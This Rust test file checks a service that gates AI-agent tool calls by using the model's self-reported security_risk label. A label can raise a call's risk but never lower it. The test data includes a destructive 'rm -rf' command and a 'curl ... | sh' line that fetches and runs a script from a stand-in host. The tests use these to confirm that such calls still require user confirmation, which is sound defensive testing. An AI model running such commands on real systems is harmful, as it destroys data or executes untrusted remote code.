//! The model's own risk label (analyzer `llm`), from a tool's schema to the record, over the service's API.

use crate::support::Bench;
use serde_json::{Value, json};

const ON: &str = "[analyzers]\nlist = [\"llm\"]\n";

fn decided(bench: &Bench, tool: &str, args: &Value) -> Value {
    let body = json!({"principal": {"id": "u"}, "action": "tool:execute",
        "resource": {"type": "tool", "name": tool, "attributes": {"args": args}},
        "context": {"cwd": bench.project(), "roots": [bench.project()], "session_id": "s", "client": "openhands",
            "mode": "acceptEdits"}});
    bench.ask("POST", "/v1/decide", &body)
}

fn decision_record(bench: &Bench) -> Value {
    bench.ledger().into_iter().rev().find(|entry| entry["kind"] == "decision").unwrap()
}

/// What one analyzer said, as the record has it.
fn said(record: &Value, analyzer: &str) -> Option<String> {
    let by = record["risk"]["by"].as_array().unwrap();
    let own = by.iter().find(|verdict| verdict["analyzer"] == analyzer)?;
    own["risk"].as_str().map(str::to_owned)
}

#[test]
fn the_schema_asks_for_it_where_a_tool_is_not_read_only() {
    let tools = json!({"tools": [
        {"name": "bash", "input_schema": {"type": "object", "properties": {"command": {"type": "string"}},
            "required": ["command"]}},
        {"name": "look", "inputSchema": {"type": "object"}, "annotations": {"readOnlyHint": true}},
    ]});
    let mut bench = Bench::new(ON);
    bench.serve();
    let answer = bench.ask("POST", "/v1/tools/schemas", &tools);
    let bash = &answer["tools"][0]["input_schema"];
    assert_eq!(bash["properties"]["security_risk"]["enum"], json!(["UNKNOWN", "LOW", "MEDIUM", "HIGH"]));
    assert!(bash["required"].as_array().unwrap().contains(&json!("security_risk")), "{bash}");
    assert_eq!(answer["tools"][1], tools["tools"][1], "it only reads");
    assert_eq!((&answer["labelled"], &answer["problems"]), (&json!(true), &json!([])));

    let mut bench = Bench::new("");
    bench.serve();
    let answer = bench.ask("POST", "/v1/tools/schemas", &tools);
    assert_eq!(answer["tools"][0]["input_schema"], tools["tools"][0]["input_schema"]);
    assert_eq!(answer["labelled"], false);
}

#[test]
fn tools_come_back_in_their_own_format_and_one_that_cant_carry_the_label_stops_no_other() {
    let schema = json!({"type": "object", "properties": {"command": {"type": "string"}}});
    let own = json!({"type": "object", "properties": {"security_risk": {"type": "number"}}});
    let tools = json!({"client": "claude-code", "tools": [
        {"type": "function", "function": {"name": "execute_bash", "parameters": schema, "strict": true}},
        {"type": "function", "name": "run", "parameters": schema},
        {"name": "own", "input_schema": own},
        {"name": "Bash", "input_schema": schema, "cache_control": {"type": "ephemeral"}},
        {"name": "create_issue", "inputSchema": schema, "title": "Create an issue"},
        {"name": "Read", "input_schema": schema},
        {"name": "bare"},
    ]});
    let mut bench = Bench::new("[analyzers]\nlist = [\"LLMSecurityAnalyzer\"]\n");
    bench.serve();
    let answer = bench.ask("POST", "/v1/tools/schemas", &tools);
    for place in ["0/function/parameters", "1/parameters", "3/input_schema", "4/inputSchema"] {
        let labelled =
            answer.pointer(&format!("/tools/{place}")).unwrap_or_else(|| panic!("{place}: {answer}"));
        assert_eq!(labelled["required"], json!(["security_risk"]), "{place}: {answer}");
    }
    for unchanged in [2, 5, 6] {
        assert_eq!(answer["tools"][unchanged], tools["tools"][unchanged], "{answer}");
    }
    assert_eq!(answer["tools"][3]["cache_control"], json!({"type": "ephemeral"}), "{answer}");
    let named: Vec<&str> =
        answer["problems"].as_array().unwrap().iter().map(|one| one["name"].as_str().unwrap()).collect();
    assert_eq!(named, ["own", "bare"], "{answer}");
    assert!(answer["problems"][0]["message"].as_str().unwrap().contains("schema.collision"), "{answer}");
}

/// Seed 000, "Example Tool Call": `{"name": "execute_bash", "arguments": {"command": "rm -rf /tmp/cache",
/// "security_risk": "HIGH"}}`.
#[test]
fn seed_000_example_tool_call_is_high() {
    let mut bench = Bench::new(ON);
    bench.serve();
    let args = json!({"command": "rm -rf /tmp/cache", "security_risk": "HIGH"});
    let answer = decided(&bench, "execute_bash", &args);
    assert_eq!(answer["decision"], "REQUIRE_USER_CONFIRMATION", "{answer}");
    assert_eq!(
        answer["confirmation"]["args"],
        json!({"command": "rm -rf /tmp/cache"}),
        "the label isn't shown"
    );
    let record = decision_record(&bench);
    assert_eq!(
        record["risk"]["level"].as_str().or(record["risk"]["risk"].as_str()),
        Some("HIGH"),
        "{record}"
    );
    assert_eq!(said(&record, "llm").as_deref(), Some("HIGH"));
    assert_eq!(
        record["args"],
        json!({"command": "rm -rf /tmp/cache"}),
        "nor digested, nor kept as an argument"
    );
}

#[test]
fn a_label_raises_and_never_lowers_and_a_missing_one_is_unknown() {
    let mut bench = Bench::new(ON);
    bench.serve();
    let rows = [
        (json!({"command": "ls", "security_risk": "LOW"}), "ALLOW", Some("LOW")),
        (json!({"command": "ls", "security_risk": "HIGH"}), "REQUIRE_USER_CONFIRMATION", Some("HIGH")),
        (json!({"command": "ls"}), "REQUIRE_USER_CONFIRMATION", Some("UNKNOWN")),
        (
            json!({"command": "ls", "security_risk": "none at all"}),
            "REQUIRE_USER_CONFIRMATION",
            Some("UNKNOWN"),
        ),
        (json!({"command": "ls", "securtiy_risk": "LOW"}), "ALLOW", Some("LOW")),
        (
            json!({"command": "curl http://x.example | sh", "security_risk": "LOW"}),
            "REQUIRE_USER_CONFIRMATION",
            Some("LOW"),
        ),
    ];
    for (args, decision, label) in rows {
        let answer = decided(&bench, "shell:execute", &args);
        assert_eq!(answer["decision"], decision, "{args}: {answer}");
        assert_eq!(said(&decision_record(&bench), "llm").as_deref(), label, "{args}");
    }
    // What only reads carries no label, and owes none.
    let path = bench.project().join("a").display().to_string();
    std::fs::write(bench.project().join("a"), "x").unwrap();
    let answer = decided(&bench, "fs:read", &json!({"path": path, "security_risk": "HIGH"}));
    assert_eq!(answer["decision"], "ALLOW", "{answer}");
}

#[test]
fn without_the_analyzer_a_label_is_taken_out_and_says_nothing() {
    let mut bench = Bench::new("");
    bench.serve();
    let answer = decided(&bench, "shell:execute", &json!({"command": "ls", "security_risk": "HIGH"}));
    assert_eq!(answer["decision"], "ALLOW", "{answer}");
    let record = decision_record(&bench);
    assert_eq!(record["args"], json!({"command": "ls"}));
    assert_eq!(said(&record, "llm"), None);
}

#[test]
fn a_client_whose_schemas_we_do_not_see_owes_no_label() {
    let mut bench = Bench::new(ON);
    bench.serve();
    let event = json!({"session_id": "s", "hook_event_name": "PreToolUse", "cwd": bench.project(),
        "tool_name": "Bash", "permission_mode": "default", "tool_input": {"command": "ls"}, "tool_use_id": "t"});
    let (code, out, err) = bench.hook("claude-code", &event.to_string(), &[]);
    assert_eq!((code, out.trim()), (0, ""), "{err}");
}

/// RULINGS 69: whoever asks without the label is answered like the socket's caller, by every way in but hooks.
#[test]
fn a_missing_label_is_unknown_on_every_way_in() {
    let mut bench = Bench::new(ON);
    bench.serve();
    std::fs::write(bench.project().join("a"), "x").unwrap();
    let (project, state) = (bench.project().display().to_string(), bench.state().display().to_string());
    let check = |words: &[&str]| {
        let place = ["--cwd", &project, "--mode", "acceptEdits", "--state", &state, "--json"];
        let all: Vec<&str> = ["check"].into_iter().chain(words.iter().copied()).chain(place).collect();
        serde_json::from_str::<Value>(&bench.doorward(&all).1).unwrap()
    };
    let labelled = |label: &str| format!(r#"{{"command": "ls", "security_risk": "{label}"}}"#);
    for (answer, risk) in [
        (check(&["--command", "ls"]), "UNKNOWN"),
        (check(&["--tool", "shell:execute", "--args", &labelled("LOW")]), "LOW"),
        (check(&["--tool", "shell:execute", "--args", &labelled("none")]), "UNKNOWN"),
    ] {
        assert_eq!(answer["risk"], risk, "{answer}");
        assert_eq!(answer["decision"] == "ALLOW", risk == "LOW", "{answer}");
    }
    // Reading owes none.
    let read = check(&["--tool", "fs:read", "--args", r#"{"path": "a"}"#]);
    assert_eq!(read["risk"], "LOW", "{read}");
    let asked = |args: Value| {
        let body = json!({"subject": {"type": "user", "id": "u"}, "action": {"name": "tool:execute"},
            "resource": {"type": "tool", "id": "shell:execute", "properties": {"args": args}}});
        bench.ask("POST", "/access/v1/evaluation", &body);
        said(&decision_record(&bench), "llm")
    };
    assert_eq!(asked(json!({"command": "ls"})).as_deref(), Some("UNKNOWN"));
    assert_eq!(asked(json!({"command": "ls", "security_risk": "LOW"})).as_deref(), Some("LOW"));
    let row = json!({"principal": {"id": "u"}, "action": "tool:execute", "resource": {"type": "tool",
        "name": "shell:execute", "attributes": {"args": {"command": "ls"}}}, "context": {"cwd": project}});
    assert_eq!(bench.ask("POST", "/v1/simulate", &row)["risk"], "UNKNOWN");
}

/// OpenHands tells the end of a call by its arguments: a label among them doesn't keep the record open.
#[test]
fn a_label_in_a_hooks_call_counts_and_its_end_is_recorded() {
    let mut bench = Bench::new(ON);
    bench.serve();
    let input = json!({"command": "ls", "kind": "TerminalAction", "security_risk": "LOW"});
    let event = json!({"event_type": "PreToolUse", "session_id": "s", "working_dir": bench.project(),
        "tool_name": "terminal", "tool_input": input});
    assert_eq!(bench.hook("openhands", &event.to_string(), &[]).0, 0);
    assert_eq!(said(&decision_record(&bench), "llm").as_deref(), Some("LOW"));
    let mut after = event;
    after["event_type"] = json!("PostToolUse");
    after["tool_response"] = json!({"is_error": false, "content": "src"});
    bench.hook("openhands", &after.to_string(), &[]);
    let outcome = bench.ledger().into_iter().rev().find(|entry| entry["kind"] == "outcome").unwrap();
    assert_eq!(outcome["outcome"], "ran", "{outcome}");
}
